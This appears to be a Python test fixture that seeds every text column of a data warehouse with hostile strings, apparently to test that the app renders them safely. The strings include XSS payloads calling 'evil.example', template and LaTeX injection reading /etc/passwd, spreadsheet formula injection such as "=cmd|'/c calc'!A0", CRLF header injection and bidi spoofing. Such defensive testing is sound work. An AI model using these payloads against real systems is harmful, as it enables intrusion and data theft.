"""Texts that would like to be more than text, and a warehouse that is full of them.

Whatever runs one calls `ran()` or asks evil.example for something.
"""

from __future__ import annotations

import sqlalchemy as sa

from data.schema import metadata
from data.warehouse import Warehouse
from tests.access import crowd

EVIL = "evil.example"
CLIENTS = 7
_CALL = f"fetch('https://{EVIL}/ran')"
STRINGS = (
    f"<script>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"<img src=https://{EVIL}/i.png onerror={_CALL}>",
    f"<svg onload={_CALL}><use href='https://{EVIL}/s.svg'/></svg>",
    f"<iframe src='https://{EVIL}/'></iframe>",
    f"<a href='javascript:{_CALL}'>win</a>",
    f"<a href='https://{EVIL}/' target='_blank'>win</a>",
    f"<style>@import 'https://{EVIL}/c.css';</style>",
    f"<link rel=stylesheet href=https://{EVIL}/c.css>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}/'>",
    f"<base href='https://{EVIL}/'>",
    f"<form action='https://{EVIL}/'><button>Save</button></form>",
    f"'\"><img src=x onerror={_CALL}>",
    f"&lt;img src=x onerror={_CALL}&gt;",
    f"<b style='background:url(https://{EVIL}/b.png)'>bold</b>",
    f"[win](https://{EVIL}/)",
    f"[win](javascript:{_CALL})",
    f"![x](https://{EVIL}/p.png)",
    f"[ref]: https://{EVIL}/\n[ref]",
    f"<https://{EVIL}/auto>",
    f"https://{EVIL}/bare and www.{EVIL}",
    "# head\n\n> quote\n\n- list\n\n---",
    "**bold** `code` ~~gone~~ :red[danger] :material/delete: :smile:",
    "$$\\href{javascript:fetch(1)}{x}$$ $\\include{/etc/passwd}$",
    "\\input{/etc/passwd}\\write18{id}\\immediate",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    '#read("/etc/passwd") #eval("1+1") #include "main.typ"',
    f'#link("javascript:{_CALL}")[win] #image("/etc/passwd") $ x^2 $ *strong*',
    '"] #read("contents.json") #["',
    f'=HYPERLINK("https://{EVIL}/";"win")',
    "=cmd|'/c calc'!A0",
    f'@SUM(1+1)*IMPORTXML("https://{EVIL}/","//a")',
    "+1+1;-2;\t=1",
    "\u202egnp.exe\u202c \u2066moc.live\u2069 \u200f",
    "zero\u200bwidth\ufeff joined\u2060",
    "nul\x00bell\x07esc\x1b[31mred",
    "line\r\nSet-Cookie: evil=1\r\n\r\n<script>1</script>",
    "𝕗𝕒𝕟𝕔𝕪 👩‍👩‍👧 שלום مرحبا Ж Ω 日本 \U000e0001",
    "long " + "<b>" * 2_000,
    f"javascript:{_CALL}",
    f'<a href="data:text/html,<script>{_CALL}</script>">win</a>',
    f"@import 'https://{EVIL}/c.css'; }} body {{ background: url(https://{EVIL}/b.png)",
    f'<a href="https://{EVIL}/">win</a><br><sup>2</sup>%{{customdata}}<extra>more</extra>',
    "=?utf-8?q?=0D=0ABcc:_evil=40evil.example?=",
    "\x1b]0;evil\x07\x1b[2J\x9b31m",
)
# Addresses with no scheme that may be followed, and one that says a formula.
_ADDRESSES = (("orders", "target_url"), ("leads", "url"))


def fill(warehouse: Warehouse) -> None:
    """A small crowd in which every text without a meaning of its own, whoever wrote it, is one of
    the above, all of them used."""
    crowd.fill(warehouse, range(CLIENTS))
    with warehouse.write() as connection:
        for table in metadata.sorted_tables:
            for place, column in enumerate(table.columns):
                if isinstance(column.type, sa.String) and not column.primary_key:
                    has_none = column.startswith(f"{column.name} canary")
                    _replace(connection, table, column, has_none, first=place)
        for name, column_name in _ADDRESSES:
            table = metadata.tables[name]
            _replace(connection, table, table.c[column_name], sa.true(), first=0)
    warehouse.keep_marts()


def _replace(
    connection: sa.Connection,
    table: sa.Table,
    column: sa.Column[str],
    of: sa.ColumnElement[bool],
    first: int,
) -> None:
    number = (sa.literal_column("rowid", sa.Integer) + first) % len(STRINGS)
    text = sa.case(dict(enumerate(STRINGS)), value=number)
    connection.execute(sa.update(table).where(of).values({column.name: text}))
